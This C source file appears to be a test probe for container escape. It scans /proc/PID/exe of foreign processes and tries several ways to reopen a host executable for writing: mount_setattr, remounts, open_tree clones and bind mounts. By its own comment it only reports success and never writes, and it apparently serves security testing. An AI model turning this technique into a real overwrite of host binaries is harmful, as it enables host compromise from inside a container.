/* Looks for a way to write to a file of the host that other processes of its PID namespace execute.
 *
 *   attack DEVICE INODE STOP
 *
 * DEVICE and INODE name the file. Every foreign /proc/PID/exe is opened and kept, and as long as STOP does not exist each
 * way is tried on each of them again and again (a file that is being executed cannot be written to; later it can).
 * Prints `WRITABLE <way>` if the file could be opened for writing, and at the end how many foreign executables it saw.
 * It never writes or truncates.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef __NR_open_tree
#define __NR_open_tree 428
#endif
#ifndef __NR_mount_setattr
#define __NR_mount_setattr 442
#endif
#define CLONE_TREE 1
#define RDONLY 1

struct attributes {
	unsigned long long set, clear, propagation, userns_fd;
};

static unsigned long long device, inode;
static int kept[64], kept_count, seen, victim_seen;

static void opened(int fd, const char *way)
{
	struct stat st;
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && st.st_dev == device && st.st_ino == inode) {
		printf("WRITABLE %s\n", way);
		fflush(stdout);
	}
	close(fd);
}

static void reopen(int fd, const char *way)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	opened(open(path, O_WRONLY | O_CLOEXEC), way);
	opened(open(path, O_RDWR | O_CLOEXEC), way);
}

static void make_writable(int fd)
{
	struct attributes a = { .clear = RDONLY };
	syscall(__NR_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
}

static void attack(int fd)
{
	char path[64];
	int tree;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);

	reopen(fd, "as it is");
	make_writable(fd);
	reopen(fd, "after mount_setattr");
	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	reopen(fd, "after a remount");

	tree = syscall(__NR_open_tree, fd, "", CLONE_TREE | AT_EMPTY_PATH | O_CLOEXEC);
	if (tree >= 0) {
		make_writable(tree);
		reopen(tree, "through a clone of the mount");
		close(tree);
	}
	if (mount(path, "/target", NULL, MS_BIND, NULL) == 0) {
		mount(NULL, "/target", NULL, MS_REMOUNT | MS_BIND, NULL);
		opened(open("/target", O_WRONLY | O_CLOEXEC), "through a bind mount");
		umount2("/target", MNT_DETACH);
	}
}

static void look(const struct stat *own)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	while (proc && (entry = readdir(proc))) {
		char path[300];
		struct stat st, other;
		int fd, i;
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) || (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
			close(fd);
			continue;
		}
		seen++;
		if (st.st_dev == device && st.st_ino == inode)
			victim_seen++;
		opened(open(path, O_WRONLY | O_CLOEXEC), "by its path");
		attack(fd);
		for (i = 0; i < kept_count; i++)
			if (fstat(kept[i], &other) == 0 && other.st_dev == st.st_dev && other.st_ino == st.st_ino)
				break;
		/* Each mount of the file is of interest, but there may be many of the same. */
		if (kept_count < 64 && (i == kept_count || kept_count < 16))
			kept[kept_count++] = fd;
		else
			close(fd);
	}
	if (proc)
		closedir(proc);
}

int main(int argc, char **argv)
{
	struct stat own;
	time_t end = time(NULL) + 30;
	if (argc != 4 || stat("/proc/self/exe", &own))
		return 2;
	device = strtoull(argv[1], NULL, 10);
	inode = strtoull(argv[2], NULL, 10);
	close(open("/target", O_CREAT | O_WRONLY, 0600));
	printf("ready\n");
	fflush(stdout);
	while (access(argv[3], F_OK) != 0 && time(NULL) < end) {
		int i;
		look(&own);
		for (i = 0; i < kept_count; i++)
			attack(kept[i]);
	}
	/* Whoever was executing the file is gone by now. */
	for (int i = 0; i < kept_count; i++)
		attack(kept[i]);
	printf("saw %d foreign executables, %d times the victim\n", seen, victim_seen);
	return 0;
}
